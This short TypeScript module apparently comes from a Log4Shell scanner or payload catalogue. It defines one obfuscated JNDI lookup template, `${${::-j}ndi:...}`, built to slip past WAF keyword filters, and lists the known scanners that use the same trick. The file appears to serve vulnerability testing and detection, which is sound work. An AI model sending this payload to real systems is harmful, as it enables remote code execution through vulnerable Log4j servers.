import { afterScheme, disguise } from '../form.ts'

export const defaultOneChar = disguise(
  {
    id: 'default-one-char',
    summary: 'one character as the default of an unnamed variable',
    firesOn: ['B', 'C'],
    seenIn: ['CISA log4j-scan waf2', 'fullhunt log4j-scan waf2', 'scan4log4shell', 'ZAP'],
  },
  (target) => `\${\${::-j}ndi:${target.scheme}:${afterScheme(target)}}`,
)
